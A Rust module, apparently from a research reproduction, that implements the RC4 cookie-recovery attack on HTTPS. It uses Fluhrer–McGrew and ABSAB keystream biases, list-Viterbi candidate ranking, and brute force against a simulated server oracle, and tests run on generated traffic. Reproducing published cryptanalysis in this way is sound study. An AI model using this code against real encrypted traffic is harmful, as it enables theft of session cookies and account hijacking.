//! The Section-6 attack: recovering an HTTPS cookie from RC4-encrypted requests.
//!
//! For every captured request the attacker knows every plaintext byte except
//! the cookie value, and knows the cookie's keystream position. Two bias
//! families contribute likelihood information about consecutive cookie bytes:
//!
//! * **Fluhrer–McGrew digraphs** — per transition, the 65536 ciphertext pair
//!   counts are scored against the FM keystream distribution at that position
//!   (the optimized sparse evaluation of Eq. 15).
//! * **Mantin's ABSAB bias** — for every gap `g` reaching into the known
//!   plaintext before or after the cookie, the ciphertext differential is
//!   biased towards the plaintext differential. Because the known plaintext is
//!   fixed, each observation can be credited directly to the plaintext pair it
//!   votes for with weight `ln α(g) − ln u`; accumulating those weighted votes
//!   per transition yields exactly the combined ABSAB log-likelihood of
//!   Eq. 22/25 while storing a single 65536-entry table per transition instead
//!   of one table per `(transition, gap)` pair.
//!
//! Which known pair a relation uses, and its weight, depend only on the
//! request template and the gap, never on a capture. So
//! [`CookieStatistics::new`] walks the gaps once and stores each
//! transition's relations as a table of `(known offset, known pair, weight)`
//! entries; folding a capture in is then one XOR pair and one addition per
//! relation. The table keeps the walk's order, so every vote slot receives
//! the same additions in the same order as a per-capture walk would make
//! (bit-identical `f64` sums).
//!
//! The combined per-transition likelihoods feed Algorithm 2 (list Viterbi) over
//! the cookie alphabet, and the resulting candidate list is brute-forced
//! against the web server (simulated here by an oracle closure).

use plaintext_recovery::{
    charset::Charset,
    likelihood::PairLikelihoods,
    viterbi::{list_viterbi_with_exec, PairCandidate, ViterbiConfig},
    RecoveryError,
};
use rc4_biases::{absab, fm};
use rc4_exec::Executor;

use crate::{http::RequestTemplate, traffic::CapturedRequest, TlsError};

/// Recovery-layer errors fold into the TLS error model, preserving
/// cancellation so callers can tell an aborted attack from a broken one.
fn recovery_error(e: RecoveryError) -> TlsError {
    match e {
        RecoveryError::Cancelled => TlsError::Cancelled,
        other => TlsError::InvalidConfig(other.to_string()),
    }
}

/// Configuration of the cookie-recovery attack.
#[derive(Debug, Clone)]
pub struct CookieAttackConfig {
    /// Maximum ABSAB gap to exploit (the paper uses 128).
    pub max_gap: usize,
    /// Number of cookie candidates to generate (the paper brute-forces `2^23`).
    pub candidates: usize,
    /// Alphabet the cookie bytes are drawn from (RFC 6265 allows at most 90).
    pub charset: Charset,
    /// Whether to use the Fluhrer–McGrew likelihoods.
    pub use_fm: bool,
    /// Whether to use the ABSAB likelihoods.
    pub use_absab: bool,
}

impl Default for CookieAttackConfig {
    fn default() -> Self {
        Self {
            max_gap: 128,
            candidates: 1 << 15,
            charset: Charset::cookie(),
            use_fm: true,
            use_absab: true,
        }
    }
}

/// Ciphertext statistics accumulated at the cookie positions.
///
/// For a cookie of `L` bytes there are `L + 1` transitions: known-prefix byte →
/// cookie byte 1, cookie byte `t` → `t + 1`, and cookie byte `L` → known-suffix
/// byte. Per transition we keep the FM pair counts and the accumulated ABSAB
/// vote table described in the module documentation.
#[derive(Debug, Clone)]
pub struct CookieStatistics {
    cookie_len: usize,
    /// Byte offset of the first cookie byte within the request.
    cookie_offset: usize,
    /// Known plaintext before / after the cookie (the full request with the
    /// cookie bytes zeroed is not needed — only the surrounding bytes).
    known_prefix: Vec<u8>,
    known_suffix: Vec<u8>,
    /// ABSAB relations per transition, in the order their votes are added.
    relations: Vec<Vec<Relation>>,
    /// FM pair counts per transition (65536 each).
    fm_counts: Vec<Vec<u64>>,
    /// ABSAB weighted votes per transition (65536 each), indexed by plaintext pair.
    absab_votes: Vec<Vec<f64>>,
    /// Keystream residue (position of the first cookie byte mod 256), fixed by alignment.
    cookie_residue: Option<u64>,
    requests: u64,
}

impl CookieStatistics {
    /// Creates empty statistics for the given request template.
    ///
    /// # Errors
    ///
    /// Returns [`TlsError::InvalidConfig`] for a zero-length cookie.
    pub fn new(template: &RequestTemplate, max_gap: usize) -> Result<Self, TlsError> {
        if template.cookie_len == 0 {
            return Err(TlsError::InvalidConfig("cookie length must be > 0".into()));
        }
        let transitions = template.cookie_len + 1;
        let mut stats = Self {
            cookie_len: template.cookie_len,
            cookie_offset: template.cookie_offset(),
            known_prefix: template.known_prefix(),
            known_suffix: template.known_suffix(),
            relations: Vec::new(),
            fm_counts: vec![vec![0u64; 65536]; transitions],
            absab_votes: vec![vec![0.0f64; 65536]; transitions],
            cookie_residue: None,
            requests: 0,
        };
        stats.relations = (0..transitions)
            .map(|t| stats.transition_relations(t, max_gap))
            .collect();
        Ok(stats)
    }

    /// The ABSAB relations of transition `t` up to gap `max_gap`: first the
    /// known pairs after the cookie, then those before it, each by
    /// increasing gap.
    fn transition_relations(&self, t: usize, max_gap: usize) -> Vec<Relation> {
        let u0 = self.cookie_offset - 1 + t; // first byte of the transition's pair
        let suffix_start = self.cookie_offset + self.cookie_len;
        let relation = |k0: usize, gap: usize| {
            let (p0, p1) = self.known_byte(k0).zip(self.known_byte(k0 + 1))?;
            let alpha = absab::alpha(gap);
            let weight = alpha.ln() - ((1.0 - alpha) / 65535.0).ln();
            Some(Relation { k0, p0, p1, weight })
        };
        let mut relations = Vec::new();
        for gap in 0..=max_gap {
            let k0 = u0 + gap + 2;
            // Pairs still inside the cookie are skipped; the first pair
            // past the end of the request ends the walk.
            if k0 < suffix_start {
                continue;
            }
            let Some(r) = relation(k0, gap) else { break };
            relations.push(r);
        }
        for gap in 0..=max_gap {
            let Some(k0) = u0.checked_sub(gap + 2) else {
                break;
            };
            // A pair touching the cookie is not known plaintext.
            relations.extend(relation(k0, gap));
        }
        relations
    }

    /// Number of requests accumulated.
    pub fn requests(&self) -> u64 {
        self.requests
    }

    /// Cookie length in bytes.
    pub fn cookie_len(&self) -> usize {
        self.cookie_len
    }

    /// Adds one captured request.
    ///
    /// # Errors
    ///
    /// * [`TlsError::Malformed`] if the ciphertext is shorter than the template.
    /// * [`TlsError::InvalidConfig`] if the cookie residue differs from earlier
    ///   captures (the alignment step should have pinned it).
    pub fn add(&mut self, capture: &CapturedRequest) -> Result<(), TlsError> {
        let needed = self.cookie_offset + self.cookie_len + self.known_suffix.len();
        if capture.ciphertext.len() < needed {
            return Err(TlsError::Malformed(format!(
                "captured request has {} bytes, template needs {needed}",
                capture.ciphertext.len()
            )));
        }
        // 1-based keystream position of the first cookie byte.
        let cookie_pos = capture.payload_offset + self.cookie_offset as u64 + 1;
        let residue = cookie_pos % 256;
        match self.cookie_residue {
            None => self.cookie_residue = Some(residue),
            Some(r) if r == residue => {}
            Some(r) => {
                return Err(TlsError::InvalidConfig(format!(
                    "cookie residue changed from {r} to {residue}; requests are not aligned"
                )))
            }
        }

        let ct = &capture.ciphertext;
        let start = self.cookie_offset; // 0-based index of first cookie byte
        for (t, relations) in self.relations.iter().enumerate() {
            // Transition t covers request bytes (u0, u0 + 1).
            let u0 = start - 1 + t;
            let (a, b) = (ct[u0], ct[u0 + 1]);
            self.fm_counts[t][(a as usize) << 8 | b as usize] += 1;
            // ABSAB votes: relate the (unknown) pair to each known pair.
            let votes = &mut self.absab_votes[t];
            for r in relations {
                let d0 = a ^ ct[r.k0] ^ r.p0;
                let d1 = b ^ ct[r.k0 + 1] ^ r.p1;
                votes[(d0 as usize) << 8 | d1 as usize] += r.weight;
            }
        }
        self.requests += 1;
        Ok(())
    }

    /// The known plaintext byte at request offset `idx`, or `None` if `idx`
    /// falls inside the unknown cookie value or beyond the request.
    fn known_byte(&self, idx: usize) -> Option<u8> {
        if idx < self.cookie_offset {
            self.known_prefix.get(idx).copied()
        } else if idx < self.cookie_offset + self.cookie_len {
            None
        } else {
            self.known_suffix
                .get(idx - self.cookie_offset - self.cookie_len)
                .copied()
        }
    }

    /// Computes the combined per-transition pair likelihoods on `exec`: the
    /// per-transition FM scoring and ABSAB combination — independent
    /// 65536-entry table computations — run in parallel, collected back in
    /// transition order (identical output for any worker count).
    ///
    /// # Errors
    ///
    /// Returns [`TlsError::InvalidConfig`] when no requests have been added or
    /// both bias families are disabled, and [`TlsError::Cancelled`] when the
    /// executor's flag is raised.
    pub fn likelihoods_with_exec(
        &self,
        config: &CookieAttackConfig,
        exec: &Executor<'_>,
    ) -> Result<Vec<PairLikelihoods>, TlsError> {
        if self.requests == 0 {
            return Err(TlsError::InvalidConfig("no captured requests".into()));
        }
        if !config.use_fm && !config.use_absab {
            return Err(TlsError::InvalidConfig(
                "at least one bias family must be enabled".into(),
            ));
        }
        let residue = self.cookie_residue.unwrap_or(0);
        exec.map((0..=self.cookie_len).collect(), |_, t| {
            let mut combined: Option<PairLikelihoods> = None;
            if config.use_fm {
                // 1-based keystream position of the first byte of this transition.
                let first_pos = residue + t as u64;
                let position = if first_pos == 0 { 256 } else { first_pos };
                let cells: Vec<(u8, u8, f64)> = fm::fm_biases_at(position.max(1))
                    .into_iter()
                    .map(|b| (b.first, b.second, b.probability))
                    .collect();
                let fm_lik = PairLikelihoods::from_counts_sparse(
                    &self.fm_counts[t],
                    &cells,
                    1.0 / 65536.0,
                    self.requests,
                )
                .map_err(recovery_error)?;
                combined = Some(fm_lik);
            }
            if config.use_absab {
                combined = Some(match combined {
                    // Fold the vote table straight into the FM likelihoods:
                    // same per-slot addition as clone-then-combine (bit-
                    // identical) without materializing a 512 KiB copy per
                    // transition.
                    Some(mut c) => {
                        c.add_log_values(&self.absab_votes[t])
                            .map_err(recovery_error)?;
                        c
                    }
                    None => PairLikelihoods::from_log_values(self.absab_votes[t].clone())
                        .map_err(recovery_error)?,
                });
            }
            Ok(combined.expect("at least one family enabled"))
        })
        .map_err(TlsError::from)
    }

    /// The known plaintext byte immediately before the cookie.
    pub fn boundary_before(&self) -> u8 {
        self.known_prefix[self.known_prefix.len() - 1]
    }

    /// The known plaintext byte immediately after the cookie.
    pub fn boundary_after(&self) -> u8 {
        self.known_suffix[0]
    }
}

/// One ABSAB relation of a transition: the known plaintext pair `(p0, p1)`
/// at request offset `k0`, voting with weight `ln α(g) − ln((1 − α(g))/65535)`
/// for its gap `g`.
#[derive(Debug, Clone, Copy)]
struct Relation {
    k0: usize,
    p0: u8,
    p1: u8,
    weight: f64,
}

/// Outcome of the cookie recovery.
#[derive(Debug, Clone, PartialEq)]
pub struct CookieRecoveryOutcome {
    /// The recovered cookie (present when the brute force succeeded).
    pub cookie: Option<Vec<u8>>,
    /// Position (0-based) of the true cookie in the candidate list, when found.
    pub candidate_index: Option<usize>,
    /// Number of candidates generated.
    pub candidates_generated: usize,
    /// Number of brute-force attempts performed.
    pub attempts: usize,
}

/// Generates the ranked cookie candidate list from accumulated statistics on
/// `exec`: both analysis stages — the per-transition likelihood tables and the
/// list-Viterbi beam expansion — fan out across the executor's workers. The
/// candidate list is identical for any worker count.
///
/// # Errors
///
/// Propagates the validation errors of
/// [`CookieStatistics::likelihoods_with_exec`] and of the list-Viterbi
/// decoder, and returns [`TlsError::Cancelled`] when the executor's flag is
/// raised.
pub fn cookie_candidates_with_exec(
    stats: &CookieStatistics,
    config: &CookieAttackConfig,
    exec: &Executor<'_>,
) -> Result<Vec<PairCandidate>, TlsError> {
    let likelihoods = stats.likelihoods_with_exec(config, exec)?;
    let viterbi = ViterbiConfig {
        first_known: stats.boundary_before(),
        last_known: stats.boundary_after(),
        candidates: config.candidates,
        charset: config.charset.clone(),
    };
    list_viterbi_with_exec(&likelihoods, &viterbi, exec).map_err(recovery_error)
}

/// The sequential statistic of streaming mode: the top-ranked candidate's
/// log-likelihood margin over the runner-up. `None` until the list has at
/// least two candidates (with fewer there is no runner-up to beat, so there
/// is no evidence of separation either).
///
/// The list produced by [`cookie_candidates_with_exec`] is sorted by
/// descending log-likelihood, so the margin is simply the gap between the
/// first two entries.
pub fn candidate_margin(candidates: &[PairCandidate]) -> Option<f64> {
    match candidates {
        [first, second, ..] => Some(first.log_likelihood - second.log_likelihood),
        _ => None,
    }
}

/// Walks the candidate list and tests each candidate against `oracle`
/// (in practice: an HTTPS request with the guessed cookie; here: a closure).
///
/// The paper's tool tested more than 20000 cookies per second over persistent
/// connections with HTTP pipelining; [`brute_force_rate_seconds`] converts an
/// attempt count into the corresponding wall-clock time.
pub fn brute_force_cookie(
    candidates: &[PairCandidate],
    mut oracle: impl FnMut(&[u8]) -> bool,
) -> CookieRecoveryOutcome {
    for (index, cand) in candidates.iter().enumerate() {
        if oracle(&cand.plaintext) {
            return CookieRecoveryOutcome {
                cookie: Some(cand.plaintext.clone()),
                candidate_index: Some(index),
                candidates_generated: candidates.len(),
                attempts: index + 1,
            };
        }
    }
    CookieRecoveryOutcome {
        cookie: None,
        candidate_index: None,
        candidates_generated: candidates.len(),
        attempts: candidates.len(),
    }
}

/// Wall-clock seconds needed to test `attempts` cookies at `rate` attempts per second.
pub fn brute_force_rate_seconds(attempts: u64, rate: u64) -> f64 {
    attempts as f64 / rate.max(1) as f64
}

/// Runs the complete attack: candidate generation followed by brute force.
///
/// # Errors
///
/// Propagates statistics/likelihood validation errors; an exhausted candidate
/// list is reported through the outcome rather than as an error.
pub fn recover_cookie(
    stats: &CookieStatistics,
    config: &CookieAttackConfig,
    oracle: impl FnMut(&[u8]) -> bool,
) -> Result<CookieRecoveryOutcome, TlsError> {
    let candidates = cookie_candidates_with_exec(stats, config, &Executor::serial())?;
    Ok(brute_force_cookie(&candidates, oracle))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traffic::{TrafficConfig, TrafficGenerator};

    fn template(cookie_len: usize) -> RequestTemplate {
        RequestTemplate::new("site.com", "auth", cookie_len)
    }

    #[test]
    fn statistics_validation() {
        let t = template(8);
        let mut stats = CookieStatistics::new(&t, 16).unwrap();
        assert!(CookieStatistics::new(&template(0), 16).is_err());
        // Too-short capture is rejected.
        let short = CapturedRequest {
            connection: 0,
            payload_offset: 0,
            ciphertext: vec![0u8; 10],
        };
        assert!(stats.add(&short).is_err());
        // Likelihoods require at least one request and one enabled family.
        assert!(stats
            .likelihoods_with_exec(&CookieAttackConfig::default(), &Executor::serial())
            .is_err());
    }

    #[test]
    fn residue_consistency_enforced() {
        let t = template(8);
        let mut stats = CookieStatistics::new(&t, 4).unwrap();
        let len = t.request_len();
        let ok = CapturedRequest {
            connection: 0,
            payload_offset: 0,
            ciphertext: vec![0u8; len],
        };
        stats.add(&ok).unwrap();
        let misaligned = CapturedRequest {
            connection: 0,
            payload_offset: 3,
            ciphertext: vec![0u8; len],
        };
        assert!(stats.add(&misaligned).is_err());
    }

    #[test]
    fn known_byte_lookup() {
        let t = template(4);
        let stats = CookieStatistics::new(&t, 4).unwrap();
        let off = t.cookie_offset();
        // Prefix bytes are known.
        assert_eq!(stats.known_byte(0), Some(b'G'));
        assert_eq!(stats.known_byte(off - 1), Some(b'='));
        // Cookie bytes are unknown.
        assert_eq!(stats.known_byte(off), None);
        assert_eq!(stats.known_byte(off + 3), None);
        // Suffix bytes are known again.
        assert_eq!(stats.known_byte(off + 4), Some(b';'));
        assert_eq!(stats.boundary_before(), b'=');
        assert_eq!(stats.boundary_after(), b';');
    }

    /// End-to-end recovery in "genie" mode: captures are generated with real TLS
    /// connections, and the statistics are then scored against a genie keystream
    /// model — here realized by replacing the FM/ABSAB likelihoods with votes
    /// accumulated from an artificially strong ABSAB-style channel. Rather than
    /// faking keystreams, we simply check that with the *real* (weak) biases and
    /// a small number of captures the machinery runs end to end and produces a
    /// well-formed ranked candidate list over the cookie alphabet; statistical
    /// success at realistic strengths is exercised by the Fig. 10 bench.
    #[test]
    fn pipeline_produces_ranked_cookie_candidates() {
        let cookie = b"SESSIONTOKEN00AA";
        let mut gen = TrafficGenerator::new(
            template(cookie.len()),
            cookie.to_vec(),
            TrafficConfig {
                requests_per_connection: 64,
                ..TrafficConfig::default()
            },
        )
        .unwrap();
        let mut stats = CookieStatistics::new(gen.template(), 32).unwrap();
        // Alignment: the template length is not forced to a multiple of 256 here,
        // so restrict to the captures on the first connection whose residues match
        // the first one.
        let caps = gen.capture(64).unwrap();
        let first_residue = (caps[0].payload_offset + stats.cookie_offset as u64 + 1) % 256;
        for cap in &caps {
            let residue = (cap.payload_offset + stats.cookie_offset as u64 + 1) % 256;
            if residue == first_residue {
                stats.add(cap).unwrap();
            }
        }
        assert!(stats.requests() > 0);

        let config = CookieAttackConfig {
            candidates: 32,
            ..CookieAttackConfig::default()
        };
        let candidates = cookie_candidates_with_exec(&stats, &config, &Executor::serial()).unwrap();
        assert!(!candidates.is_empty());
        assert!(candidates.len() <= 32);
        for cand in &candidates {
            assert_eq!(cand.plaintext.len(), cookie.len());
            assert!(config.charset.accepts(&cand.plaintext));
        }
        for w in candidates.windows(2) {
            assert!(w[0].log_likelihood >= w[1].log_likelihood);
        }
    }

    /// The per-capture gap walk that the relation table replaced, kept as
    /// the reference the table must reproduce bit for bit.
    fn reference_add(
        stats: &CookieStatistics,
        max_gap: usize,
        fm_counts: &mut [Vec<u64>],
        absab_votes: &mut [Vec<f64>],
        ct: &[u8],
    ) {
        let start = stats.cookie_offset;
        for (t, counts) in fm_counts.iter_mut().enumerate() {
            let a = ct[start - 1 + t] as usize;
            let b = ct[start + t] as usize;
            counts[(a << 8) | b] += 1;
        }
        for (t, votes) in absab_votes.iter_mut().enumerate() {
            let u0 = start - 1 + t;
            for gap in 0..=max_gap {
                let k0 = u0 + gap + 2;
                if k0 < start + stats.cookie_len {
                    continue;
                }
                let Some((p0, p1)) = stats.known_byte(k0).zip(stats.known_byte(k0 + 1)) else {
                    break;
                };
                let Some((c0, c1)) = ct.get(k0).zip(ct.get(k0 + 1)) else {
                    break;
                };
                let d0 = ct[u0] ^ c0 ^ p0;
                let d1 = ct[u0 + 1] ^ c1 ^ p1;
                let alpha = absab::alpha(gap);
                let weight = alpha.ln() - ((1.0 - alpha) / 65535.0).ln();
                votes[(d0 as usize) << 8 | d1 as usize] += weight;
            }
            for gap in 0..=max_gap {
                let offset = gap + 2;
                if u0 < offset {
                    break;
                }
                let k0 = u0 - offset;
                if k0 + 1 >= start - 1 + t && t > 0 {
                    continue;
                }
                if k0 + 1 >= stats.known_prefix.len() && k0 + 1 >= start {
                    continue;
                }
                let Some((p0, p1)) = stats.known_byte(k0).zip(stats.known_byte(k0 + 1)) else {
                    continue;
                };
                let d0 = ct[u0] ^ ct[k0] ^ p0;
                let d1 = ct[u0 + 1] ^ ct[k0 + 1] ^ p1;
                let alpha = absab::alpha(gap);
                let weight = alpha.ln() - ((1.0 - alpha) / 65535.0).ln();
                votes[(d0 as usize) << 8 | d1 as usize] += weight;
            }
        }
    }

    proptest::proptest! {
        /// Folding captures through the relation table gives the FM counts
        /// and, slot for slot, the same `f64` vote bits as the per-capture
        /// gap walk. Besides uniform ciphertexts, two shapes make many votes
        /// land in the same slot: ciphertext bytes with only their two low
        /// bits set, and the request XORed with one repeated keystream byte
        /// (every relation of a transition then votes for the same pair).
        /// The weights are multiples of 2^-49, so sums below 16 are exact
        /// whatever the order of their additions; both sides therefore start
        /// from the same non-zero votes, which makes every addition round and
        /// a change of order show up in the bits.
        #[test]
        fn relation_table_matches_the_gap_walk_bit_for_bit(
            cookie_len in 1usize..=24,
            max_gap in 0usize..=128,
            path_padding in 0usize..=300,
            alignment_padding in 0usize..=300,
            payload_offset in 0u64..=4096,
            captures in 1usize..=4,
            shape in 0u8..3,
            seed in proptest::prelude::any::<u64>(),
        ) {
            let mut template = template(cookie_len);
            template.path_padding = path_padding;
            template.alignment_padding = alignment_padding;
            let mut stats = CookieStatistics::new(&template, max_gap).unwrap();
            for votes in &mut stats.absab_votes {
                for (slot, v) in votes.iter_mut().enumerate() {
                    *v = 1000.0 + slot as f64 / 65536.0;
                }
            }
            let mut fm_counts = stats.fm_counts.clone();
            let mut absab_votes = stats.absab_votes.clone();
            let mut x = seed | 1;
            let mut next = move || {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                x as u8
            };
            for i in 0..captures {
                let cookie: Vec<u8> = (0..cookie_len).map(|_| next()).collect();
                let mut request = template.build(&cookie).unwrap();
                request.push(next());
                let keystream_byte = next();
                let ciphertext: Vec<u8> = request
                    .iter()
                    .map(|&p| match shape {
                        0 => next(),
                        1 => next() & 0x03,
                        _ => p ^ keystream_byte,
                    })
                    .collect();
                reference_add(&stats, max_gap, &mut fm_counts, &mut absab_votes, &ciphertext);
                stats
                    .add(&CapturedRequest {
                        connection: 0,
                        payload_offset: payload_offset + 256 * i as u64,
                        ciphertext,
                    })
                    .unwrap();
            }
            proptest::prop_assert!(stats.fm_counts == fm_counts, "FM counts differ");
            for (t, (table, reference)) in stats.absab_votes.iter().zip(&absab_votes).enumerate() {
                for (slot, (got, want)) in table.iter().zip(reference).enumerate() {
                    proptest::prop_assert_eq!(
                        got.to_bits(),
                        want.to_bits(),
                        "transition {} slot {:#06x}: {} vs {}",
                        t,
                        slot,
                        got,
                        want
                    );
                }
            }
        }
    }

    #[test]
    fn brute_force_reports_position_and_misses() {
        let candidates = vec![
            PairCandidate {
                plaintext: b"aaaa".to_vec(),
                log_likelihood: 3.0,
            },
            PairCandidate {
                plaintext: b"bbbb".to_vec(),
                log_likelihood: 2.0,
            },
            PairCandidate {
                plaintext: b"cccc".to_vec(),
                log_likelihood: 1.0,
            },
        ];
        let hit = brute_force_cookie(&candidates, |c| c == b"bbbb");
        assert_eq!(hit.cookie.as_deref(), Some(b"bbbb".as_ref()));
        assert_eq!(hit.candidate_index, Some(1));
        assert_eq!(hit.attempts, 2);

        let miss = brute_force_cookie(&candidates, |_| false);
        assert!(miss.cookie.is_none());
        assert_eq!(miss.attempts, 3);

        // 2^23 attempts at 20000/s is under 7 minutes, as the paper notes.
        let secs = brute_force_rate_seconds(1 << 23, 20_000);
        assert!(secs < 7.0 * 60.0);
    }

    #[test]
    fn candidate_margin_is_top_two_gap() {
        let make = |lls: &[f64]| -> Vec<PairCandidate> {
            lls.iter()
                .map(|&ll| PairCandidate {
                    plaintext: b"x".to_vec(),
                    log_likelihood: ll,
                })
                .collect()
        };
        assert_eq!(candidate_margin(&make(&[])), None);
        assert_eq!(candidate_margin(&make(&[5.0])), None);
        let m = candidate_margin(&make(&[5.0, 1.5, 0.0])).unwrap();
        assert!((m - 3.5).abs() < 1e-12);
    }
}
